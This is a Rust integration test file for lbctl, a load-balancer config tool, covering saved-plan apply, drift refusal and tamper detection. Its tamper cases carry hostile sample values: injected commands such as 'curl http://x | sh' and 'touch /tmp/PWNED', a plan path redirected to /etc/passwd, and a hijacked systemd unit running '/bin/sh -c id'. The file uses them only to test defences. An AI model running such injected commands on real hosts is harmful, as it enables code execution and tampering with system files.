//! Saved plans on the lab: `plan --out FILE` writes a private file, `apply FILE` applies
//! exactly it, and refuses, changing no host, when a host changed since the plan. Offline:
//! a plan file edited to run or write what the inventory could not is refused before any
//! host is reached.

use std::os::unix::fs::PermissionsExt;

use serde_json::json;

use crate::support::lab::{LBS, Lab};
use crate::support::{Lbctl, scratch, write_private};

const CHANGE: &str = "@tests/inputs/limit-change.yaml";
const FILES: [&str; 3] = [
    "/etc/haproxy/haproxy.cfg",
    "/etc/keepalived/keepalived.conf",
    "/etc/nginx/lbctl-stream.conf",
];

/// Every managed file on every load balancer, by digest.
fn fleet_files(lab: &Lab) -> String {
    let mut all = String::new();
    for lb in LBS {
        let mut args = vec!["sha256sum"];
        args.extend(FILES);
        let out = lab.exec(lb.name, &args);
        all.push_str(&format!(
            "{}:\n{}",
            lb.name,
            String::from_utf8_lossy(&out.stdout)
        ));
    }
    all
}

#[test]
fn a_saved_plan_applies_exactly_and_is_refused_once_a_host_moved() {
    let lab = Lab::up();
    let dir = scratch("saved-plan");
    let plan = dir.join("plan.json");
    let plan_arg = plan.to_str().unwrap();

    // Planned with the change, saved, private.
    let saved = Lbctl::on_lab()
        .args([
            "-e",
            CHANGE,
            "--json",
            "plan",
            "--detailed-exitcode",
            "--out",
            plan_arg,
        ])
        .exit(2)
        .run()
        .json();
    assert_eq!(saved["plan_file"], plan_arg, "{saved}");
    let mode = std::fs::metadata(&plan).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the plan file holds secrets");
    let text = std::fs::read_to_string(&plan).unwrap();
    assert!(text.contains("\"format\": \"lbctl-plan\"") && text.contains("\"version\": 1"));
    assert!(
        text.contains("lab-stats-secret"),
        "it holds the rendered files, secrets included"
    );

    // Applied as saved, without the inventory's vars (no -e here), without asking.
    Lbctl::new()
        .args(["apply", plan_arg])
        .stdout_has("Apply: 3 changed, 0 unchanged, 0 failed.")
        .run();
    Lbctl::on_lab()
        .args(["-e", CHANGE, "plan", "--detailed-exitcode"])
        .stdout_has("Plan: 0 to change, 3 unchanged.")
        .run();
    // Applying it again: every host moved (it now holds the plan's result).
    Lbctl::new()
        .args(["apply", plan_arg])
        .stderr_has("no longer matches 3 of its 3 hosts")
        .exit(1)
        .run();

    // A plan back to the inventory's own vars; then someone edits lb2 by hand.
    Lbctl::on_lab()
        .args(["plan", "--out", plan_arg])
        .stdout_has("Saved this plan to")
        .run();
    let edit = lab.exec(
        "lb2",
        &[
            "sh",
            "-c",
            "echo '# edited by hand' >> /etc/haproxy/haproxy.cfg",
        ],
    );
    assert!(edit.status.success());
    let before = fleet_files(&lab);
    let refused = Lbctl::new()
        .args(["apply", plan_arg])
        .stderr_has("no longer matches 1 of its 3 hosts; nothing was changed on any host")
        .stderr_has("lb2: changed since the plan: /etc/haproxy/haproxy.cfg (planned on ")
        .exit(1)
        .run();
    assert!(
        !refused.stderr.contains("lb1:") && !refused.stderr.contains("lb3:"),
        "only lb2 moved:\n{}",
        refused.stderr
    );
    assert_eq!(fleet_files(&lab), before, "a refused plan changed a host");
    // The hosts staged their files in the same round trip as the check: a refused plan
    // leaves none of them behind.
    for lb in LBS {
        let staged = lab.exec(
            lb.name,
            &[
                "sh",
                "-c",
                "ls /etc/haproxy /etc/keepalived /etc/nginx | grep -c lbctl-new",
            ],
        );
        assert_eq!(
            String::from_utf8_lossy(&staged.stdout).trim(),
            "0",
            "{} kept a staged file",
            lb.name
        );
    }

    // A saved plan takes neither --limit nor -e; another format version is refused.
    Lbctl::new()
        .args(["apply", plan_arg, "--limit", "lb1"])
        .stderr_has("a saved plan is applied exactly as planned")
        .exit(1)
        .run();
    std::fs::write(&plan, text.replacen("\"version\": 1", "\"version\": 99", 1)).unwrap();
    Lbctl::new()
        .args(["apply", plan_arg])
        .stderr_has("lbctl plan file of version 99; this lbctl reads version 1")
        .exit(1)
        .run();

    // A plan edited after lbctl wrote it (what it writes no longer has the SHA-256 it
    // recorded) is refused before any host is reached, naming the host and the file.
    std::fs::write(&plan, text.replacen("maxconn 4096", "maxconn 40960", 1)).unwrap();
    Lbctl::new()
        .args(["apply", plan_arg])
        .stderr_has("is not the plan lbctl wrote; nothing was changed on any host")
        .stderr_has(": what the plan writes to /etc/haproxy/haproxy.cfg is not what it recorded")
        .exit(1)
        .run();

    // Back to the inventory's configuration for the next test.
    Lbctl::on_lab().args(["apply", "--yes"]).run();
}

/// A plan file as `lbctl plan --out` writes it, for one load balancer, `lb1`, at 127.0.0.1
/// port 1 where nothing listens: an apply that gets past reading it fails to connect.
fn offline_plan() -> serde_json::Value {
    let file = |service: &str, path: &str, content: &str| {
        json!({
            "service": service, "path": path, "action": "update", "planned_on": null,
            "sha256": lbctl::remote::sha256_hex(content.as_bytes()), "content": content,
            "diff": "",
        })
    };
    let restart = "systemctl daemon-reload && systemctl enable --quiet lbctl-udp-health.service && systemctl restart lbctl-udp-health.service";
    json!({
        "format": "lbctl-plan", "version": 1, "lbctl": "0.1.0", "created": 0,
        "hosts": [{
            "host": "lb1",
            "connection": {
                "name": "lb1", "address": "127.0.0.1", "port": 1, "user": "root",
                "private_key": null, "known_hosts": null, "ssh_config": null,
                "become_root": true, "strict_host_keys": "strict",
            },
            "held_vip": false,
            "vips": [],
            "files": [
                file(
                    "haproxy",
                    "/etc/haproxy/haproxy.cfg",
                    "global\n    stats socket /run/haproxy/admin.sock level admin\nfrontend f\n    bind :80\n",
                ),
                file("udp-health-unit", "/etc/systemd/system/lbctl-udp-health.service", "[Service]\n"),
            ],
            "controls": {
                "haproxy": {"check": "haproxy -c -f {path}", "reload": "systemctl reload haproxy"},
                "udp-health-unit": {"check": "", "reload": restart},
            },
            "verify": {
                "haproxy_runtime_socket": "/run/haproxy/admin.sock",
                "haproxy_master_socket": "/run/haproxy/master.sock",
                "tcp_ports": [80], "udp_ports": [], "pid_files": [],
            },
            "keep": {
                "state_file": "/var/lib/haproxy/server-state",
                "haproxy_config": "/etc/haproxy/haproxy.cfg",
                "record_path": "/var/lib/lbctl/admin-state",
                "record": null,
                "commands": [],
            },
        }],
    })
}

/// Writes `plan` as lbctl does (mode 0600) to `name` in `dir`; its path.
fn write_plan(dir: &std::path::Path, name: &str, plan: &serde_json::Value) -> String {
    let path = write_private(dir, name, plan.to_string().as_bytes());
    path.to_str().unwrap().to_string()
}

#[test]
fn a_plan_file_edited_to_run_or_write_what_the_inventory_cannot_is_refused_before_connecting() {
    let dir = scratch("saved-plan-tampered");
    // Untampered, it is read, and lbctl goes on to connect (and cannot).
    let good = write_plan(&dir, "good.json", &offline_plan());
    Lbctl::new()
        .args(["apply", &good])
        .stderr_has("lb1: cannot be checked")
        .exit(1)
        .run();

    fn host(plan: &mut serde_json::Value) -> &mut serde_json::Value {
        &mut plan["hosts"][0]
    }
    type Tamper = fn(&mut serde_json::Value);
    let cases: [(&str, Tamper, &str); 8] = [
        (
            "passwd",
            |h| {
                h["files"][0]["path"] = json!("/etc/passwd");
                h["keep"]["haproxy_config"] = json!("/etc/passwd");
            },
            "lb1: hosts[0].files[0].path: \"/etc/passwd\" is outside haproxy's usual directories",
        ),
        (
            "check",
            |h| h["controls"]["haproxy"]["check"] = json!("touch /tmp/PWNED; true {path}"),
            "lb1: hosts[0].controls.haproxy.check: \"touch /tmp/PWNED; true {path}\" is not the check lbctl runs for haproxy",
        ),
        (
            "reload",
            |h| h["controls"]["haproxy"]["reload"] = json!("true\ncurl http://x | sh"),
            "lb1: hosts[0].controls.haproxy.reload: \"true\\ncurl http://x | sh\" is refused: expected a non-empty command on a single line",
        ),
        (
            "unit",
            |h| h["files"][1]["path"] = json!("/etc/systemd/system/ssh.service"),
            "lb1: hosts[0].files[1].path: \"/etc/systemd/system/ssh.service\" is not the UDP health watcher's unit",
        ),
        (
            "verify",
            |h| h["verify"]["tcp_ports"] = json!([22]),
            "lb1: hosts[0].verify.tcp_ports: [22] are not the ports the plan's files listen on ([80])",
        ),
        (
            "commands",
            |h| h["keep"]["commands"] = json!(["disable server b/s"]),
            "lb1: hosts[0].keep.commands: `lbctl plan` saves no runtime API commands",
        ),
        (
            "record",
            |h| h["keep"]["record"] = json!("b/s maint\n"),
            "lb1: hosts[0].keep.record: `lbctl plan` saves no admin record",
        ),
        (
            "content",
            |h| h["files"][1]["content"] = json!("[Service]\nExecStart=/bin/sh -c id\n"),
            "lb1: hosts[0].files[1].content: what the plan writes to /etc/systemd/system/lbctl-udp-health.service is not what it recorded",
        ),
    ];
    for (name, tamper, why) in cases {
        let mut plan = offline_plan();
        tamper(host(&mut plan));
        let path = write_plan(&dir, &format!("{name}.json"), &plan);
        let refused = Lbctl::new()
            .args(["apply", &path])
            .stderr_has(format!(
                "the plan file {path} is not the plan lbctl wrote; nothing was changed on any host"
            ))
            .stderr_has(why)
            .stderr_has("make a new plan with `lbctl plan --out FILE`")
            .exit(1)
            .run();
        assert!(
            !refused.stderr.contains("cannot be checked"),
            "{name}: lbctl tried to connect:\n{}",
            refused.stderr
        );
    }

    // A field this lbctl does not read (here one an older lbctl wrote, which let the plan's
    // files out of their directories) is refused where it is, before connecting: a plan is
    // applied as a whole or not at all.
    let mut plan = offline_plan();
    host(&mut plan)["confine_paths"] = json!(false);
    let unknown = write_plan(&dir, "unknown.json", &plan);
    let refused = Lbctl::new()
        .args(["apply", &unknown])
        .stderr_has(format!(
            "{unknown} is not an lbctl plan file: unknown field `confine_paths`"
        ))
        .stderr_has("at line 1 column")
        .stderr_has("save a plan with `lbctl plan --out FILE`")
        .exit(1)
        .run();
    assert!(
        !refused.stderr.contains("cannot be checked"),
        "lbctl tried to connect:\n{}",
        refused.stderr
    );

    // Files outside their services' directories only when the operator says so, on the
    // command line: then the plan is read, and lbctl goes on to connect.
    let mut plan = offline_plan();
    host(&mut plan)["files"][0]["path"] = json!("/etc/lb/haproxy.cfg");
    host(&mut plan)["keep"]["haproxy_config"] = json!("/etc/lb/haproxy.cfg");
    let outside = write_plan(&dir, "outside.json", &plan);
    Lbctl::new()
        .args(["apply", &outside])
        .stderr_has("apply it with `lbctl apply --no-confine-paths FILE`")
        .exit(1)
        .run();
    Lbctl::new()
        .args(["apply", "--no-confine-paths", &outside])
        .stderr_has("lb1: cannot be checked")
        .exit(1)
        .run();

    // A plan file someone else could have written is not read.
    let link = dir.join("link.json");
    std::os::unix::fs::symlink(&good, &link).unwrap();
    Lbctl::new()
        .args(["apply", link.to_str().unwrap()])
        .stderr_has("is refused: it is a symbolic link")
        .exit(1)
        .run();
    std::fs::set_permissions(&good, std::fs::Permissions::from_mode(0o664)).unwrap();
    Lbctl::new()
        .args(["apply", &good])
        .stderr_has("is refused: its mode 0664 lets others than its owner write it")
        .exit(1)
        .run();
}
